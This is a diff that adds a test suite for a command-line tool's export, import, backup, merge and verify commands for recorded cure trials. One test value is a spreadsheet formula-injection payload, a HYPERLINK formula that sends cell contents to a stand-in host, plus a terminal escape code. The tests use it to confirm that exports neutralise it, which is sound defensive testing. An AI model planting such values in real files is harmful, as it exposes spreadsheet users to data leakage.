@@ -1,0 +1,271 @@
+import { spawnSync } from 'node:child_process';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { spawn } from '@lydell/node-pty';
+import { parse } from 'csv-parse/sync';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { RECIPE_FIELDS } from '../../src/core/exchange/recipe-fields.ts';
+import { RUN_FIELDS } from '../../src/core/exchange/run-fields.ts';
+import { TRIAL_FIELDS } from '../../src/core/exchange/trial-fields.ts';
+import { contentsOf, tamper } from '../adapters/sqlite/filled-store.ts';
+import { logText, PLAIN_LOG, SOAK_S } from './exchange-helpers.ts';
+import { PROGRAM, runProgram, temporaryFolder, until } from './run-program.ts';
+
+const folder = temporaryFolder();
+const store = join(folder, 'store.db');
+const run = (...args: string[]) => runProgram(args, { DWELLWRIGHT_STORE: store });
+const json = (...args: string[]) => JSON.parse(run(...args, '--json').out);
+/** A reason as somebody might type it to harm whoever opens the sheet. */
+const HARMFUL = '=HYPERLINK("http://example.invalid/?"&A1,"open");\u001b[31m+1';
+
+let trialId = '';
+beforeAll(() => {
+  expect(run('demo', '--plain').code).toBe(0);
+  trialId = json('trials').trials[0].trialId;
+  expect(run('set-aside', trialId, '2', '--reason', HARMFUL).code).toBe(0);
+});
+
+describe('export', () => {
+  it('runs as CSV hold what the trial shows, figure for figure, read by csv-parse', () => {
+    const rows = parse(run('export', 'runs').out, { columns: true }) as Record<string, string>[];
+    const shown = json('trials', trialId).runs;
+    expect(
+      rows.map((row) => [Number(row.runInTrial), Number(row.soakTimeS), row.counted, row.verdict]),
+    ).toEqual(
+      shown.map((one: { soakTimeS: number; counted: boolean; verdict: string }, at: number) => [
+        at + 1,
+        one.soakTimeS,
+        String(one.counted),
+        one.verdict,
+      ]),
+    );
+    expect(rows[1]?.decisionReason).toBe(`'${HARMFUL.replace('\u001b', '\\x1B')}`);
+  });
+
+  it('trials as JSON hold the same mean, spread and dwells as the trial shows', () => {
+    const [row] = JSON.parse(run('export', 'trials', '--format', 'json').out).rows;
+    const { trial, dwell } = json('trials', trialId);
+    expect([row.runsCounted, row.meanSoakS, row.sdSoakS, row.dwellMeanS, row.dwellNextRunS]).toEqual([
+      trial.runs,
+      trial.meanSoakS,
+      trial.sdSoakS,
+      dwell.byRuleTotalS.mean,
+      dwell.byRuleTotalS['next-run'],
+    ]);
+  });
+
+  it('text kept to the letter in JSON, recipes with every run they rest on', () => {
+    const out = run('export', 'runs', '--format', 'json').out;
+    expect(out).not.toContain('\u001b');
+    expect(JSON.parse(out).rows[1].decisionReason).toBe(HARMFUL);
+    const [recipe] = JSON.parse(run('export', 'recipes', '--format', 'json').out).rows;
+    const [shown] = json('recipes').recipes;
+    expect([recipe.dwellS, recipe.restsOn.length]).toEqual([shown.dwellS, shown.restsOn.length]);
+  });
+
+  it('the csv module of Python reads every table as csv-parse does, and no cell of text begins a formula', () => {
+    if (spawnSync('python3', ['--version']).status !== 0) {
+      console.warn('skipped: there is no python3 on this machine');
+      return;
+    }
+    for (const what of ['runs', 'trials', 'recipes']) {
+      const file = join(folder, `${what}.csv`);
+      expect(run('export', what, '--out', file)).toMatchObject({ code: 0 });
+      const script =
+        'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))))';
+      const { stdout } = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' });
+      const rows = JSON.parse(stdout) as string[][];
+      expect(rows).toEqual(parse(readFileSync(file, 'utf8')));
+      expect(rows.length).toBeGreaterThan(1);
+      // Only numbers may begin with a sign.
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@+\t\r]|^-(?!\d+(\.\d+)?(e-?\d+)?$)/);
+    }
+  });
+
+  it('recordings, byte for byte as stored; brought into an empty store they are proved by their hashes again', () => {
+    const out = join(folder, 'recordings');
+    expect(run('export', 'recordings', '--out', out)).toMatchObject({
+      code: 0,
+      out: expect.stringContaining('1 recording'),
+    });
+    const [name = ''] = readdirSync(out);
+    const text = readFileSync(join(out, name), 'utf8');
+    expect(text).toBe(run('recordings', name.replace('.dwell.txt', '')).out);
+    const other = { DWELLWRIGHT_STORE: join(folder, 'from-files.db') };
+    expect(runProgram(['import', join(out, name)], other).code).toBe(0);
+    expect(runProgram(['verify'], other)).toMatchObject({
+      code: 0,
+      out: expect.stringContaining('1 proved by hash'),
+    });
+    const shown = (env: Record<string, string>) =>
+      JSON.parse(runProgram(['trials', trialId, '--json'], env).out).runs.map(
+        (one: { soakTimeS: number }) => one.soakTimeS,
+      );
+    expect(shown(other)).toEqual(shown({ DWELLWRIGHT_STORE: store }));
+  });
+
+  it('fields: names every field of every table', () => {
+    const { out } = run('export', 'fields');
+    for (const { name, about } of [...RUN_FIELDS, ...TRIAL_FIELDS, ...RECIPE_FIELDS])
+      expect(out).toMatch(new RegExp(`^ {2}${name} +${about.replace(/[.*+?^$()[\]{}|]/g, '\\$&')}$`, 'm'));
+  });
+
+  it('what it cannot write is refused with exit code 2', () => {
+    expect(run('export', 'recordings')).toMatchObject({
+      code: 2,
+      err: expect.stringContaining('--out FOLDER'),
+    });
+    expect(run('export', 'presses').code).toBe(2);
+    expect(run('export', 'runs', '--out', join(folder, 'none', 'runs.csv'))).toMatchObject({ code: 2 });
+    expect(run('export', 'runs', '--trial', 'nobody')).toMatchObject({
+      code: 2,
+      err: expect.stringContaining('Did you mean'),
+    });
+  });
+});
+
+describe('import', () => {
+  const log = join(folder, 'log.csv');
+  writeFileSync(log, logText(PLAIN_LOG));
+  const other = { DWELLWRIGHT_STORE: join(folder, 'imports.db') };
+  const named = ['--assembly', 'WB-212', '--press', 'North'];
+
+  it('the same numbers from the store as from the file with the same options', () => {
+    const rules = ['--target', '350F', '--hold', '60s', '--closed-at', '12s'];
+    const added = runProgram(['import', log, ...named, ...rules, '--trial', 'lot-7'], other);
+    expect(added).toMatchObject({ code: 0, err: '' });
+    expect(added.out).toContain(
+      'added to new trial lot-7 (WB-212 on North, target 350 °F (176.7 °C), hold 60 s)',
+    );
+    const fromFile = JSON.parse(runProgram(['replay', log, ...rules, '--json'], other).out);
+    const fromStore = JSON.parse(runProgram(['replay', '--trial', 'lot-7', '--json'], other).out);
+    const plain = (outcome: { runs: { source: string }[] }) => ({
+      ...outcome,
+      runs: outcome.runs.map(({ source: _source, ...one }) => one),
+    });
+    expect(plain(fromStore)).toEqual(plain(fromFile));
+    expect(Math.abs(fromStore.runs[0].soakTimeS - SOAK_S)).toBeLessThan(0.1);
+  });
+
+  it('the same file again: nothing added, said so, exit code 0', () => {
+    const again = runProgram(['import', log], other);
+    expect(again).toMatchObject({ code: 0, err: '' });
+    expect(again.out).toMatch(
+      /already in the store as recording import-[0-9a-f]{32} in trial lot-7.*Nothing added\./,
+    );
+  });
+
+  it('without a terminal nothing is asked: the option to add is named, exit code 2', () => {
+    const file = join(folder, 'bare.csv');
+    writeFileSync(file, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line' }));
+    expect(runProgram(['import', file, ...named], other)).toMatchObject({
+      code: 2,
+      err: expect.stringContaining('add --unit C, --unit F or --unit K'),
+    });
+    expect(runProgram(['import', file, '--unit', 'C'], other).err).toContain('Add --assembly NAME');
+  });
+
+  it('on a terminal it asks, and saves the answers as a layout that the next file is read by', async () => {
+    const first = join(folder, 'first.csv');
+    const next = join(folder, 'next.csv');
+    writeFileSync(first, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.4 }));
+    writeFileSync(next, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.8 }));
+    const terminal = spawn(process.execPath, [PROGRAM, 'import', first, '--save-layout', 'desk'], {
+      cols: 120,
+      rows: 30,
+      env: { ...process.env, ...other } as Record<string, string>,
+    });
+    let shown = '';
+    let code: number | null = null;
+    terminal.onData((text) => {
+      shown += text;
+    });
+    terminal.onExit(({ exitCode }) => {
+      code = exitCode;
+    });
+    const answer = async (question: string, text: string) => {
+      await until(question, () => shown.includes(question));
+      shown = shown.slice(shown.indexOf(question) + question.length);
+      terminal.write(`${text}\r`);
+    };
+    await answer('Unit of the temperatures (C, F or K)?', 'X');
+    await answer('Write one of C, F, K.', 'C');
+    await answer('Assembly, such as WB-212?', 'WB-212');
+    await answer('Press, such as North?', 'North');
+    await answer('(Enter: leave it so)?', '12s');
+    await until('its end', () => code !== null);
+    expect(code).toBe(0);
+    expect(shown).toContain('Layout "desk" saved');
+    expect(runProgram(['layouts'], other).out).toBe('desk: temperatures in °C\n');
+    expect(runProgram(['import', next, '--layout', 'desk', ...named], other)).toMatchObject({
+      code: 0,
+      err: '',
+    });
+  });
+
+  it('a question that is left with Ctrl-C adds nothing and leaves exit code 2', async () => {
+    const file = join(folder, 'left.csv');
+    writeFileSync(file, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.6 }));
+    const terminal = spawn(process.execPath, [PROGRAM, 'import', file], {
+      cols: 120,
+      rows: 30,
+      env: { ...process.env, ...other } as Record<string, string>,
+    });
+    let shown = '';
+    let code: number | null = null;
+    terminal.onData((text) => {
+      shown += text;
+    });
+    terminal.onExit(({ exitCode }) => {
+      code = exitCode;
+    });
+    await until('the question', () => shown.includes('Unit of the temperatures'));
+    terminal.write('\x03');
+    await until('its end', () => code !== null);
+    expect(code).toBe(2);
+    expect(shown).toContain('was not answered');
+    expect(runProgram(['import', file, ...named, '--unit', 'C'], other).out).toContain('added to new trial');
+  });
+});
+
+describe('backup, merge and verify', () => {
+  it('a backup merged into the store it is of adds nothing; into an empty store it is the same store', () => {
+    const copy = join(folder, 'backup.db');
+    expect(run('backup', copy)).toMatchObject({
+      code: 0,
+      out: expect.stringContaining('Nothing wrong found.'),
+    });
+    expect(run('backup', copy)).toMatchObject({ code: 2, err: expect.stringContaining('--replace') });
+    expect(run('merge', copy)).toMatchObject({ code: 0, out: `${copy}: nothing new.\n` });
+    const empty = join(folder, 'empty.db');
+    expect(runProgram(['merge', copy], { DWELLWRIGHT_STORE: empty })).toMatchObject({ code: 0 });
+    expect(contentsOf(empty)).toEqual(contentsOf(store));
+  });
+
+  it('an altered trace: verify names it and ends with 1, backup too, merge refuses with 1', () => {
+    const altered = join(folder, 'altered.db');
+    expect(run('backup', altered).code).toBe(0);
+    tamper(
+      altered,
+      `DROP TRIGGER recording_blocks_never_updated;
+       UPDATE recording_blocks SET body_text = replace(body_text, ' line ', ' line  ') WHERE first_entry = 0;
+       CREATE TRIGGER recording_blocks_never_updated BEFORE UPDATE ON recording_blocks
+       BEGIN SELECT RAISE(ABORT, 'recording_blocks is never updated'); END`,
+    );
+    const id = json('recordings').recordings[0].recordingId;
+    const env = { DWELLWRIGHT_STORE: altered };
+    expect(runProgram(['verify'], env)).toMatchObject({
+      code: 1,
+      out: expect.stringContaining(`recording ${id}: altered:`),
+    });
+    expect(JSON.parse(runProgram(['verify', '--json'], env).out).problems).toContainEqual(
+      expect.objectContaining({ kind: 'recording', subject: id }),
+    );
+    expect(runProgram(['backup', join(folder, 'of-altered.db')], env).code).toBe(1);
+    expect(run('merge', altered)).toMatchObject({
+      code: 1,
+      err: expect.stringContaining('nothing was merged'),
+    });
+    expect(run('verify').code).toBe(0);
+  });
+});
